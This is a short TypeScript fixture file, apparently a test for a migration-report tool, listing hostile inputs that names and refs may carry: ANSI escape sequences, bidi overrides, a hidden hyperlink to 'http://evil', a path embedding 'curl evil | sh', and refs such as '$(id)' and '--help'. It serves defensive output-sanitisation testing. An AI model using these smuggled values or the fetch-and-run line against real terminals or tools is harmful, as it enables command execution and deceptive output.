import { sentence, type Report } from '@oneleaf/core';
import { branch, check, commit, finding, fork, predict } from './report-builders.js';

const ESC = '\u001b';

/** What a stranger may put into names: it must neither colour, move, hide nor turn around what is printed. */
export const hostileExamples: Readonly<Record<string, Report>> = {
  'hostile-paths': check({
    findings: [
      finding('stray-copy', sentence`${{ path: 'a\nfix: curl evil | sh\n.py' }} looks like a copy`, {
        location: { path: 'shop/migrations/0002_\n copy.py' },
        related: [{ path: `shop/migrations/${ESC}[2J0002_x.py`, message: 'the original' }],
        fix: { title: 'delete the copy', command: `git rm -f -- 'shop/migrations/0002_\n copy.py'` },
      }),
      finding(
        'missing-parent',
        sentence`${{ migration: '0003' }} refers to ${{ migration: `${ESC}]8;;http://evil${ESC}\\here${ESC}]8;;${ESC}\\` }}`,
        { history: 'shop\u202epohs' },
      ),
    ],
  }),
  'hostile-refs': predict({
    base: { ref: `refs/heads/main${ESC}[31m`, commit: commit('bad') },
    branches: [
      fork(`refs/heads/feat/\u202exat\u2066`, { history: 'shop\t', mine: '0002_\u0007', theirs: '0002_\u009b31m' }),
      branch('refs/heads/--help', { reasons: ['\u200bnothing\u2028seen'] }),
    ],
    groups: [{ history: 'shop', refs: ['refs/heads/a\nb', 'refs/heads/$(id)'] }],
  }),
};
